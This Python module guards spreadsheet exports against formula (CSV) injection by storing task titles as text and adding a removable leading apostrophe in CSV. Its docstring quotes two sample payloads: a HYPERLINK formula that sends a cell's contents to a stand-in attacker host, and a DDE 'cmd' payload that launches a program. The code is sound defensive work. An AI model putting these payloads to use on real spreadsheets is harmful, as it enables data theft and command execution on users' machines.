"""Spreadsheet cells that show text and never run it.

A task title such as `=HYPERLINK("https://evil.example/?"&A1;"Open")` or
`@SUM(1+1)*cmd|' /C calc'!A0` becomes a live formula when a supplier opens the export in
Excel or LibreOffice (formula or CSV injection). In XLSX a text cell is stored as text,
never as a formula; in CSV, which has no types, text that a spreadsheet would read as
a formula gets a leading apostrophe, the spreadsheets' own mark for "this is text",
which the importer takes off again so a round trip changes nothing.
"""

from __future__ import annotations

from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet reads as the start of a formula (tab and carriage return too: some trim them first)."""


def csv_text(value: Any) -> Any:
    """A value for a CSV cell: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def from_csv_text(text: str) -> str:
    """Undo `csv_text`: the apostrophe in front of a formula start goes; any other apostrophe stays."""
    if text.startswith("'") and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


def append_row(sheet: Worksheet, values: list[Any]) -> None:
    """`sheet.append(values)`, with every text cell kept as text (openpyxl makes `=...` a formula)."""
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type == "f":
            cell.data_type = "s"
